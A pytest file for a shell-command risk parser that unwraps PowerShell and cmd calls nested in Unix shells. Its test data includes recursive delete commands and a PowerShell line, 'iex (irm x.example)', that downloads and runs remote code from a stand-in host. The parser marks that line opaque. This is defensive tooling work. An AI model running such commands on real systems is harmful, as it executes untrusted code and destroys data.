"""Windows' shells called from a Unix one are looked into like any other wrapper."""

from __future__ import annotations

import pytest

from flightdeck.model.shell import Feed, Invocation, Programs
from flightdeck.risk.script import parse

PROGRAMS = Programs(shells=frozenset({"bash"}))


def _found(command: str) -> tuple[Invocation, ...]:
    return parse(command, PROGRAMS).invocations


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("pwsh -c 'Remove-Item -Rec x'", "remove-item --recurse x"),
        ('powershell.exe -Command "rm x"', "remove-item x"),
        ("cmd //c 'del /s x'", "del /s x"),
        ("cmd.exe /c del x", "del x"),
        ("pwsh -c \"bash -c 'git push'\"", "git push"),
        ("bash -c \"pwsh -c 'rm x'\"", "remove-item x"),
        ("pwsh -File build.ps1", "pwsh -File build.ps1"),
        ("pwsh -Command -", "pwsh -Command -"),
        ("cmd", "cmd"),
        ("pwsh 'it''s'.ps1", "pwsh its.ps1"),
    ],
)
def test_what_the_other_shell_would_run_is_found(command: str, told: str) -> None:
    (found,) = _found(command)
    assert " ".join((found.program, *(word.text for word in found.words))) == told


def test_what_stands_around_the_call_holds_for_what_is_in_it() -> None:
    _, found = _found("echo x | pwsh -c 'Set-Content a' > log.txt")
    assert found.wrappers == ("pwsh",)
    assert found.feed is Feed.PIPE
    assert found.upstream[0].program == "echo"
    assert found.redirects[0].target.text == "log.txt"


def test_a_script_the_other_shell_cannot_show_leaves_the_line_opaque() -> None:
    assert parse("pwsh -c 'iex (irm x.example)'", PROGRAMS).opaque
    assert not parse("pwsh -c 'Get-Date'", PROGRAMS).opaque
